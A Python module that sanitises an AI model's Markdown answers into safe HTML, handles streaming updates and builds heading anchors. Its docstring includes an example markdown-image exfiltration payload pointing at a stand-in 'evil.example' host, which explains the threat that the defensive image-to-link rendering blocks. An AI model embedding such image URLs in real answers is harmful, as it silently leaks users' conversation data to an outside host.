"""Assistant Markdown to safe HTML: markdown-it-py renders, nh3 (ammonia) sanitises.

Raw HTML in the Markdown is escaped rather than passed through, and the sanitiser keeps only
formatting tags. Images are never loaded: an image URL fetched by the reader's browser could
carry chat content to another host (``![a](https://evil.example/?q=<secret>)``). A Markdown
image is shown as a link labelled with its alt text instead, so the reader still sees it and
the URL is only fetched if they follow it.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, cast

import nh3
import pygments
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict, OptionsType
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_all_lexers, get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound


def _highlight(code: str, language: str, _attrs: str) -> str:
    """Pygments' HTML for a fenced block in a ``language`` it knows: the code's tokens as
    ``<span class="k">``… (classes the sanitiser keeps, styled by parley.css). ``""`` for any
    other block: markdown-it escapes its code itself. Nothing is guessed: a block with no
    language, or one Pygments does not know, stays plain."""
    if not language:
        return ""
    try:
        lexer = get_lexer_by_name(language, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return ""
    return str(pygments.highlight(code, lexer, _CODE_FORMATTER))


_CODE_FORMATTER = HtmlFormatter(nowrap=True)

_md = (
    MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
    .enable("table")
    .enable("strikethrough")
)
# The last block of a streaming answer is rendered again at every update: its code is not
# highlighted until the block is settled (see MarkdownStream).
_PLAIN_OPTIONS = OptionsDict(cast("OptionsType", {**_md.options, "highlight": None}))


def _image_as_link(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """Render an image as a link to it, labelled with its alt text (or its URL). Inside a link
    (``[![alt](src)](href)``) only the label is written: links do not nest."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    label = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or src)
    depth = 0
    for previous in tokens[:idx]:
        depth += {"link_open": 1, "link_close": -1}.get(previous.type, 0)
    if depth > 0:
        return label
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    return f'<a href="{escapeHtml(src)}"{title_attr}>{label}</a>'


_md.add_render_rule("image", _image_as_link)

ALLOWED_TAGS = {
    "a", "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote", "span",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
# Classes are kept only where highlighting puts them: a code block's language and Pygments'
# token classes. No other class survives, so an answer cannot borrow the page's own styles.
ALLOWED_CLASSES = {
    "code": {f"language-{alias}" for _, aliases, _, _ in get_all_lexers() for alias in aliases},
    "span": {name for name in STANDARD_TYPES.values() if name},
}
URL_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"

_answer_cleaner = nh3.Cleaner(
    tags=ALLOWED_TAGS,
    attributes=ALLOWED_ATTRIBUTES,
    allowed_classes=ALLOWED_CLASSES,
    url_schemes=URL_SCHEMES,
    link_rel=LINK_REL,
    set_tag_attribute_values={"a": {"target": "_blank"}},
)


def _block_spans(tokens: Sequence[Token]) -> list[tuple[int, int]]:
    """``(start, end)`` token indices of each top-level block: a paragraph, a list, a
    table, a code block…"""
    spans = []
    start = depth = 0
    for index, token in enumerate(tokens):
        if depth == 0:
            start = index
        depth += token.nesting
        if depth == 0:
            spans.append((start, index + 1))
    return spans


def _render_block(tokens: Sequence[Token], options: OptionsDict = _md.options) -> str:
    return _answer_cleaner.clean(_md.renderer.render(tokens, options, {}))


def render_blocks(text: str) -> list[str]:
    """The safe HTML of each top-level block of ``text``, in order."""
    tokens = _md.parse(text)
    return [_render_block(tokens[start:end]) for start, end in _block_spans(tokens)]


@lru_cache(maxsize=1024)
def render_markdown(text: str) -> str:
    """Render Markdown to HTML that is safe to insert into a page: its blocks, each
    sanitised."""
    return "".join(render_blocks(text))


@dataclass(frozen=True, slots=True)
class BlocksUpdate:
    """What changed in a streaming answer's blocks: those from index ``start`` on are now
    ``html``, and render its first ``chars`` characters; ``after`` is the ``chars`` of the
    update before, which a client must have applied (docs/protocol.md, ``delta``)."""

    start: int
    html: list[str]
    chars: int
    after: int

    def wire(self) -> dict[str, Any]:
        return {"from": self.start, "html": self.html, "chars": self.chars, "after": self.after}


# Past this many characters after the settled blocks (a long table, list or paragraph full of
# brackets being written), they are parsed again only once they have grown by half since the
# last time: an update's parse costs up to ~100 ms there, and the whole answer's then costs
# at most about three parses of it.
MAX_UNSETTLED = 4000
# Characters that can start, end or change Markdown's inline syntax, and those HTML writes as
# entities (&, <, >, no-break space): see MarkdownStream._shows_as_text.
_INLINE_SYNTAX = frozenset("\\`*_~[]()!<>&;|\n\r\x00\u00a0")
# What a line that may still become a block marker is made of: a list item's ("- ", "1. "),
# a heading's, a quote's, a rule's, a fence's, a setext underline's, a table's delimiters.
_BLOCK_MARKS = frozenset(" \t0123456789.)#>-+*=`~_|:")


class MarkdownStream:
    """The HTML of an answer while it streams, as :func:`render_blocks` gives it for the
    finished text, without rendering the whole text at each update.

    A block is *settled* once the block after it has two complete lines, or began after a
    blank line: no later text can change it then, so it is rendered once and never sent
    again, and a client never redraws it. Only the rest (usually the one block being
    written) is parsed and rendered again. Its code is not highlighted until it settles, so
    that a long code block being written costs a parse, not Pygments, at each update.

    Reference definitions (``[x]: https://…``) apply to the blocks after them. A block that
    uses one defined later in the answer shows the reference as text until the answer ends;
    the final rendering then differs in that block only.
    """

    def __init__(self) -> None:
        self.blocks: list[str] = []
        self.chars = 0  # how much of the text ``blocks`` render (up to trailing white space)
        self.settled = 0  # how many of ``blocks`` are settled (the first ones)
        self._settled_end = 0  # where in the text the settled blocks end
        self._references: dict[str, Any] = {}  # defined in the settled text
        self._parsed = 0  # how long the text after the settled blocks was when last parsed

    def update(self, text: str) -> BlocksUpdate | None:
        """Render ``text``, the answer so far (the text of the last update and more).
        ``None`` if the last update, with the text after it, shows it already."""
        # The blocks render the text up to its last non-space (as Python, and markdown-it,
        # strip it): the client shows what follows as text, spaces and all, until the next
        # update (a block's HTML drops its trailing spaces, which would glue "about" to
        # "How", and a code block's last newline, which would show twice).
        chars = len(text.rstrip())
        if chars == self.chars or self._shows_as_text(text, chars):
            return None
        fragment = text[self._settled_end : chars]
        if len(fragment) > MAX_UNSETTLED and len(fragment) < 1.5 * self._parsed:
            return None  # a huge block being written: parsed again only as it grows by half
        self._parsed = len(fragment)
        env: dict[str, Any] = {"references": dict(self._references)}
        tokens = _md.parse(fragment, env)
        spans = _block_spans(tokens)
        complete_lines = fragment.count("\n")
        settle = 0
        for index in range(1, len(spans)):
            begins, before = tokens[spans[index][0]].map, tokens[spans[index - 1][0]].map
            assert begins is not None and before is not None  # a block's first token maps it
            # Blank lines came before the block, or its first two lines are complete (a
            # table's head is known to be one only with the line after it): either way, no
            # later text can make it part of the block before.
            if before[1] < begins[0] or begins[0] + 1 < complete_lines:
                settle = index
        settled = [_render_block(tokens[start:end]) for start, end in spans[:settle]]
        rest = [_render_block(tokens[start:end], _PLAIN_OPTIONS) for start, end in spans[settle:]]
        if settle:
            line = tokens[spans[settle][0]].map
            assert line is not None  # a block's first token maps its lines
            offset = _line_offset(fragment, line[0])
            if "]:" in fragment[:offset]:
                references: dict[str, Any] = {"references": self._references}
                _md.parse(fragment[:offset], references)
            self._settled_end += offset
        update = BlocksUpdate(self.settled, settled + rest, chars, self.chars)
        self.blocks = self.blocks[: self.settled] + update.html
        self.settled += settle
        self.chars = chars
        return update

    def _shows_as_text(self, text: str, chars: int) -> bool:
        """Whether the text added since the last update, drawn as text at the end of the
        last block (as a client draws it: docs/protocol.md), is exactly its rendering: then
        no update is needed, and the paragraph being written is not parsed again (its parse
        is most of an update's cost, and grows with it).

        That holds when the only block not settled is a paragraph, the text added is on its
        last line and holds no character that could make or end Markdown syntax (emphasis,
        code, links, entities, escapes) or that HTML writes as an entity; when the character
        before it ends no such syntax either (one after ``_`` decides whether the ``_``
        closes emphasis); and when that last line already holds a character no block marker
        is made of, so that it can no longer become a list item, a heading or a rule.
        """
        tail = self.blocks[-1] if len(self.blocks) == self.settled + 1 else ""
        if not (self.chars and tail.startswith("<p>") and tail.endswith("</p>\n")):
            return False
        if text[self._settled_end : self.chars].lstrip().startswith("["):
            return False  # it may become a reference definition ("[x]: https://…"): no HTML
        added = text[self.chars : chars]
        if _INLINE_SYNTAX.intersection(added) or text[self.chars - 1] in _INLINE_SYNTAX:
            return False
        newline = text.rfind("\n", self._settled_end, self.chars)
        line = text[newline + 1 if newline >= 0 else self._settled_end : self.chars]
        return not _BLOCK_MARKS.issuperset(line)

    def snapshot(self) -> BlocksUpdate:
        """Every block, as a client that has none needs them."""
        return BlocksUpdate(0, list(self.blocks), self.chars, 0)


def _line_offset(text: str, line: int) -> int:
    """Where 0-based line ``line`` of ``text`` starts."""
    offset = 0
    for _ in range(line):
        offset = text.index("\n", offset) + 1
    return offset


# Documents of the knowledge base ---------------------------------------------------------

_NOT_SLUG = re.compile(r"[^\w\- ]")
HEADING_TAGS = {"h1", "h2", "h3", "h4", "h5", "h6"}


@dataclass(frozen=True, slots=True)
class Heading:
    """A top-level heading of a Markdown document: its level (1-6), its plain text, its
    anchor (unique within the document) and the 0-based line where it starts."""

    level: int
    text: str
    anchor: str
    line: int


def heading_slug(text: str) -> str:
    """The anchor of a heading, as GitHub makes it: lower case, punctuation dropped, spaces
    as hyphens ("Using a real model" -> "using-a-real-model")."""
    return _NOT_SLUG.sub("", text.strip().lower()).replace(" ", "-")


def _headings(tokens: Sequence[Token]) -> list[tuple[int, Heading]]:
    """``(index of the heading_open token, heading)`` for each heading outside quotes and
    lists; repeated anchors get ``-1``, ``-2``… as on GitHub."""
    seen: dict[str, int] = {}
    found = []
    for index, token in enumerate(tokens):
        if token.type != "heading_open" or token.level != 0 or not token.map:
            continue
        inline = tokens[index + 1]
        text = "".join(child.content for child in inline.children or []).strip()
        slug = heading_slug(text) or "section"
        count = seen.get(slug, 0)
        seen[slug] = count + 1
        anchor = f"{slug}-{count}" if count else slug
        found.append((index, Heading(int(token.tag[1]), text, anchor, token.map[0])))
    return found


def markdown_headings(text: str) -> list[Heading]:
    """The headings of a Markdown document, in order (those inside code blocks, quotes and
    lists are not headings of the document)."""
    return [heading for _, heading in _headings(_md.parse(text))]


# As for answers, plus the headings' anchors, and links that open in the same tab.
_document_cleaner = nh3.Cleaner(
    tags=ALLOWED_TAGS,
    attributes={**ALLOWED_ATTRIBUTES, **{tag: {"id"} for tag in HEADING_TAGS}},
    allowed_classes=ALLOWED_CLASSES,
    url_schemes=URL_SCHEMES,
    link_rel=LINK_REL,
)


def render_document(text: str) -> str:
    """Render a knowledge document to safe HTML. Like :func:`render_markdown`, plus an ``id``
    on each heading (the anchor of :func:`markdown_headings`, which source links point to),
    and links that open in the same tab."""
    tokens = _md.parse(text)
    for index, heading in _headings(tokens):
        tokens[index].attrSet("id", heading.anchor)
    html = _md.renderer.render(tokens, _md.options, {})
    return _document_cleaner.clean(html)
